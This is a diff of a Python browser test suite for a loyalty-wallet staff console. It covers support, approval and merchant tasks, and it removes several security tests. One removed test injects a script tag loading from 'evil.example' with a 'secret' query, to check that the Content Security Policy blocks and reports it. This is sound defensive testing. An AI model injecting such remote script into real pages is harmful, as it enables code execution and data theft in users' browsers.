@@ -1,51 +1,18 @@
 """The console in a real browser, at a real server: every task, and what people can do wrong."""
 
-import json
 import re
-from collections.abc import AsyncIterator
 from pathlib import Path
-from typing import Any
 
 import pytest
-import structlog
 
-from api.identity import sessions
-from tests import browser, serving
-from tests.console import certificate, test_tasks, workplace
-from tests.identity import visitor
+from tests import serving
+from tests.console import test_tasks, workplace
 from tests.wallet import factories
 from wallet import database, ids, money
 
 pytestmark = pytest.mark.slow
 
 WHY = "The parcel came three days late."
-Logs = list[structlog.typing.EventDict]
-
-
-@pytest.fixture
-async def world(db: database.Database) -> workplace.World:
-    """A small coalition with something to look at."""
-    workplace.need()
-    browser.need()
-    return await workplace.world(db)
-
-
-@pytest.fixture
-async def house(
-    db: database.Database, world: workplace.World, tmp_path: Path
-) -> AsyncIterator[serving.House]:
-    """The installation, served as in production; at the end no policy was broken."""
-    with structlog.testing.capture_logs() as logs:
-        async with serving.serve(db, data_dir=tmp_path) as served:
-            yield served
-
-    assert [] == [one for one in logs if one["event"] == "csp.violation"]
-
-
-def data(answer: Any) -> Any:
-    """The data of an answer without errors."""
-    assert "errors" not in answer, answer
-    return answer["data"]
 
 
 async def test_support_looks_up_a_member_and_what_the_member_sees(
@@ -55,24 +22,24 @@ async def test_support_looks_up_a_member_and_what_the_member_sees(
     async with workplace.desk(db, house, "support") as (desk, _):
         await desk.task("Find a member")
         await desk.fill(email=world.ana.email.upper())
-        found = data(await desk.run())["memberByEmail"]
+        found = workplace.data(await desk.run())["memberByEmail"]
         await desk.task("What does this member see")
         await desk.fill(id=member_id)
-        seen = data(await desk.run())["member"]
+        seen = workplace.data(await desk.run())["member"]
         await desk.task("What did this member buy")
         await desk.fill(id=member_id)
-        bought = data(await desk.run())["member"]["purchases"]["edges"]
+        bought = workplace.data(await desk.run())["member"]["purchases"]["edges"]
         await desk.task("Why did this purchase earn this")
         await desk.fill(id=bought[0]["node"]["id"])
-        explained = data(await desk.run())["purchaseExplanation"]
+        explained = workplace.data(await desk.run())["purchaseExplanation"]
         await desk.task("Why was this redemption refused")
         await desk.fill(id=member_id)
-        redemptions = data(await desk.run())["member"]["redemptions"]["edges"]
+        redemptions = workplace.data(await desk.run())["member"]["redemptions"]["edges"]
         await desk.task("What do the merchants give back")
-        merchants = data(await desk.run())["merchants"]["edges"]
+        merchants = workplace.data(await desk.run())["merchants"]["edges"]
         await desk.task("What is behind this id")
         await desk.fill(id=ids.show("red", world.held.redemption_id))
-        behind = data(await desk.run())["node"]
+        behind = workplace.data(await desk.run())["node"]
 
         assert (member_id, "15.00") == (found["id"], found["wallet"]["available"]["amount"])
         assert {"EARN", "MATURE", "HOLD"} <= {
@@ -96,9 +63,9 @@ async def test_a_credit_within_the_limit_is_done_once_and_logged_with_its_docume
         await desk.task("Post a goodwill credit")
         key = (await desk.variables())["input"]["idempotencyKey"]
         await desk.fill("input", memberId=member_id, reason=WHY)
-        first = data(await desk.send())["goodwillCredit"]
+        first = workplace.data(await desk.send())["goodwillCredit"]
         said = await desk.page.get_by_role("status").inner_text()
-        second = data(await desk.send())["goodwillCredit"]
+        second = workplace.data(await desk.send())["goodwillCredit"]
         await desk.task("Post a goodwill credit")
         other = (await desk.variables())["input"]["idempotencyKey"]
 
@@ -146,7 +113,7 @@ async def test_a_refusal_is_told_in_words(
         await desk.task("Post a goodwill credit")
         await desk.fill("input", memberId=ids.show("mem", world.ana.member_id), reason=WHY)
         await desk.fill("input", "amount", amount="50.00")
-        (refusal,) = data(await desk.send())["goodwillCredit"]["errors"]
+        (refusal,) = workplace.data(await desk.send())["goodwillCredit"]["errors"]
         said = await desk.page.get_by_role("status").inner_text()
         await desk.page.get_by_role("button", name="Show Refusals").click()
         panel = desk.page.get_by_role("region", name="Refusals")
@@ -166,7 +133,7 @@ async def test_a_second_person_approves_what_the_first_proposed(
     async with workplace.desk(db, house, "support") as (desk, _):
         await desk.task("Propose a goodwill credit")
         await desk.fill("input", memberId=member_id, reason=WHY)
-        proposed = data(await desk.send())["goodwillCreditPropose"]["approval"]
+        proposed = workplace.data(await desk.send())["goodwillCreditPropose"]["approval"]
         await desk.task("Resolve a redemption in doubt")
         await desk.fill(
             "input",
@@ -175,21 +142,21 @@ async def test_a_second_person_approves_what_the_first_proposed(
             reason="The till of the merchant was stolen.",
             evidence="Receipt 4711, which the member showed.",
         )
-        resolved = data(await desk.send())["redemptionResolve"]["approval"]
+        resolved = workplace.data(await desk.send())["redemptionResolve"]["approval"]
     async with workplace.desk(db, house, "supervisor") as (desk, _):
         await desk.task("What waits for a second person")
-        waiting = data(await desk.run())["approvals"]["edges"]
+        waiting = workplace.data(await desk.run())["approvals"]["edges"]
         for approval in (proposed, resolved):
             await desk.task("Approve a credit or a settlement")
             await desk.fill("input", approvalId=approval["id"], reason="I spoke to the member.")
-            payload = data(await desk.send())["approvalDecide"]
+            payload = workplace.data(await desk.send())["approvalDecide"]
             assert [] == payload["errors"]
             assert "APPROVED" == payload["approval"]["status"]
             assert "Sofia Almeida" == payload["approval"]["maker"]["name"]
             assert "Sergio Prado" == payload["approval"]["checker"]["name"]
         await desk.task("Who did what, and why")
         await desk.fill(subjectId=member_id)
-        trail = data(await desk.run())["auditTrail"]["edges"]
+        trail = workplace.data(await desk.run())["auditTrail"]["edges"]
 
         assert {proposed["id"], resolved["id"]} == {edge["node"]["id"] for edge in waiting}
         assert WHY in {edge["node"]["reason"] for edge in trail}
@@ -205,13 +172,13 @@ async def test_support_freezes_unfreezes_and_enrols(
     async with workplace.desk(db, house, "support") as (desk, _):
         await desk.task("Freeze a wallet")
         await desk.fill("input", memberId=member_id, reason="The member lost the phone.")
-        frozen = data(await desk.send())["memberSuspend"]
+        frozen = workplace.data(await desk.send())["memberSuspend"]
         await desk.task("Unfreeze a wallet")
         await desk.fill("input", memberId=member_id, reason="The phone is found again.")
-        free = data(await desk.send())["memberReinstate"]
+        free = workplace.data(await desk.send())["memberReinstate"]
         await desk.task("Enrol a member")
         await desk.fill("input", reason="Asked for it at the counter.")
-        enrolled = data(await desk.send())["memberEnrol"]
+        enrolled = workplace.data(await desk.send())["memberEnrol"]
 
         assert ("SUSPENDED", "ACTIVE") == (frozen["member"]["status"], free["member"]["status"])
         assert "New Member" == enrolled["member"]["displayName"]
@@ -224,25 +191,25 @@ async def test_operators_look_after_merchants(
     async with workplace.desk(db, house, "operator") as (desk, _):
         await desk.task("Register a merchant")
         await desk.fill("input", reason="The contract was signed today.")
-        merchant_id = data(await desk.send())["merchantRegister"]["merchant"]["id"]
+        merchant_id = workplace.data(await desk.send())["merchantRegister"]["merchant"]["id"]
         await desk.task("Publish a contract")
         await desk.fill("input", merchantId=merchant_id, note="As signed today.")
-        published = data(await desk.send())["contractPublish"]
+        published = workplace.data(await desk.send())["contractPublish"]
         await desk.task("Add a store")
         await desk.fill("input", merchantId=merchant_id, reason="It opens tomorrow.")
-        added = data(await desk.send())["storeAdd"]
+        added = workplace.data(await desk.send())["storeAdd"]
         await desk.task("Register a program of a merchant")
         await desk.fill("input", merchantId=merchant_id, reason="The tills go live.")
-        client = data(await desk.send())["merchantClientRegister"]
+        client = workplace.data(await desk.send())["merchantClientRegister"]
         await desk.task("Replace the secret of a program")
         await desk.fill("input", clientId=client["client"]["clientId"], reason="It was mailed.")
-        rotated = data(await desk.send())["merchantClientRotate"]
+        rotated = workplace.data(await desk.send())["merchantClientRotate"]
         await desk.task("Suspend a merchant")
         await desk.fill("input", merchantId=merchant_id, reason="It has not paid its share.")
-        suspended = data(await desk.send())["merchantSuspend"]
+        suspended = workplace.data(await desk.send())["merchantSuspend"]
         await desk.task("Reinstate a merchant")
         await desk.fill("input", merchantId=merchant_id, reason="It has paid its share.")
-        reinstated = data(await desk.send())["merchantReinstate"]
+        reinstated = workplace.data(await desk.send())["merchantReinstate"]
 
         assert ([], 1) == (published["errors"], published["version"])
         assert "1" == added["store"]["externalId"]
@@ -278,52 +245,6 @@ async def test_each_role_is_shown_its_own_tasks(
     assert "Register a merchant" in shown["operator"] - shown["supervisor"]
 
 
-async def test_when_the_session_is_over_the_tabs_are_kept_for_the_same_person(
-    db: database.Database, house: serving.House, world: workplace.World
-) -> None:
-    async with workplace.desk(db, house, "support") as (desk, staff_id):
-        await desk.task("Freeze a wallet")
-        await desk.fill("input", reason="Half written")
-        await desk.page.wait_for_timeout(700)  # the editor keeps its tabs half a second later
-        await sessions.end_all(db, kind="staff", principal_id=staff_id)
-        await desk.page.get_by_role("button", name="Execute query").click()
-        await desk.page.get_by_role("button", name="Run it").click()
-        await desk.page.wait_for_url("**/staff/signin?next=/console")
-        secret = await workplace.secret_of(db, staff_id)
-        await _carry(desk, house, secret)
-        await desk.open(house.origin)
-        kept = await desk.variables()
-        other = await workplace.employ(db, "supervisor")
-        await _carry(desk, house, await workplace.secret_of(db, other))
-        await desk.open(house.origin)
-        begun = await desk.variables()
-
-        assert "Half written" == kept["input"]["reason"]
-        assert {"email"} == set(begun)  # somebody else begins with none of them
-
-
-async def test_nothing_about_a_member_outlives_the_browser_tab(
-    db: database.Database, house: serving.House, world: workplace.World
-) -> None:
-    async with workplace.desk(db, house, "support") as (desk, _):
-        await desk.task("Find a member")
-        await desk.fill(email=world.ana.email)
-        data(await desk.run())
-        await desk.page.wait_for_timeout(700)
-        lasting = await desk.page.evaluate("JSON.stringify({...localStorage})")
-        passing = await desk.page.evaluate("JSON.stringify({...sessionStorage})")
-        await desk.page.get_by_role("button", name="Sign out").click()
-        await desk.page.wait_for_url("**/staff/signin**")
-        left = await desk.page.evaluate("JSON.stringify({...sessionStorage})")
-
-        assert world.ana.email not in lasting
-        assert world.ana.email in passing
-        # The answer is kept nowhere, not even there.
-        assert ids.show("mem", world.ana.member_id) not in lasting + passing
-        assert {} == json.loads(left)
-        assert await db.fetchval("select bool_and(revoked_at is not null) from identity.session")
-
-
 async def test_the_documentation_opens(
     db: database.Database, house: serving.House, world: workplace.World
 ) -> None:
@@ -347,102 +268,3 @@ async def test_tasks_are_in_the_currency_of_the_programme(
         await desk.task("Post a goodwill credit")
 
         assert "USD" == (await desk.variables())["input"]["amount"]["currency"]
-
-
-async def test_what_the_policy_stops_is_reported(
-    db: database.Database, world: workplace.World, tmp_path: Path
-) -> None:
-    # So that the empty reports of the tests above mean something.
-    with structlog.testing.capture_logs() as logs:
-        async with (
-            serving.serve(db, data_dir=tmp_path) as house,
-            workplace.desk(db, house, "support") as (desk, _),
-        ):
-            async with desk.page.expect_request("**/csp"):
-                await desk.page.evaluate(
-                    "document.body.append(Object.assign(document.createElement('script'),"
-                    " {src: 'https://evil.example/x.js?secret'}))"
-                )
-            await desk.page.wait_for_timeout(200)
-
-            assert any("Content Security Policy" in one for one in desk.tab.complaints)
-    (report,) = [one for one in logs if one["event"] == "csp.violation"]
-    assert "https://evil.example/x.js" == report["blocked"]
-
-
-async def test_staff_sign_in_by_tls_and_the_cookie_is_bound_to_this_host(
-    db: database.Database, world: workplace.World, tmp_path: Path
-) -> None:
-    staff_id = await workplace.employ(db, "support")
-    person = await visitor.give_password(db, "staff", staff_id)
-    made = certificate.make(tmp_path)
-    with structlog.testing.capture_logs() as logs:
-        async with (
-            serving.serve(db, certificate=made, data_dir=tmp_path) as house,
-            browser.open_tab() as tab,
-        ):
-            desk = workplace.Desk(tab)
-            await tab.page.goto(f"{house.origin}/console")
-            await tab.page.get_by_label("E-mail address").fill(person.email)
-            await tab.page.get_by_label("Password").fill(visitor.PASSWORD)
-            await tab.page.get_by_role("button", name="Sign in", exact=True).click()
-            await tab.page.wait_for_url(f"{house.origin}/console")
-            await desk.ready()
-            await desk.task("Find a member")
-            await desk.fill(email=world.ana.email)
-            found = data(await desk.run())["memberByEmail"]
-            (cookie,) = [
-                one for one in await tab.page.context.cookies() if "commonpurse" in one["name"]
-            ]
-
-            assert "Ana" == found["displayName"]
-            assert "__Host-commonpurse" == cookie["name"]
-            assert (True, True, "Lax", "/", "localhost") == (
-                cookie["secure"],
-                cookie["httpOnly"],
-                cookie["sameSite"],
-                cookie["path"],
-                cookie["domain"],
-            )
-            assert "commonpurse" not in await tab.page.evaluate("document.cookie")
-            assert [] == tab.complaints
-    assert [] == [one for one in logs if one["event"] == "csp.violation"]
-
-
-async def test_a_page_of_another_origin_cannot_use_the_session(
-    db: database.Database, house: serving.House, world: workplace.World
-) -> None:
-    document = {"query": "{ merchants { edges { node { id } } } }"}
-    async with workplace.desk(db, house, "support") as (desk, _):
-        ours = await desk.page.evaluate(SEND, [f"{house.origin}/graphql", document, True])
-        bare = await desk.page.evaluate(SEND, [f"{house.origin}/graphql", document, False])
-        # The same server by another name is another origin, to which the browser asks first.
-        await desk.page.goto(f"{house.origin.replace('localhost', '127.0.0.1')}/healthz")
-        theirs = await desk.page.evaluate(SEND, [f"{house.origin}/graphql", document, True])
-
-        assert 200 == ours
-        assert 401 == bare
-        assert "TypeError" == theirs
-
-
-SEND = """async ([address, document, preflight]) => {
-  try {
-    const response = await fetch(address, {
-      method: "POST",
-      credentials: "include",
-      headers: {
-        "Content-Type": "application/json",
-        ...(preflight ? { "GraphQL-Require-Preflight": "1" } : {}),
-      },
-      body: JSON.stringify(document),
-    });
-    return response.status;
-  } catch (error) {
-    return error.name;
-  }
-}"""
-
-
-async def _carry(desk: workplace.Desk, house: serving.House, secret: str) -> None:
-    name = sessions.cookie_name(house.settings)
-    await desk.page.context.add_cookies([{"name": name, "value": secret, "url": house.origin}])
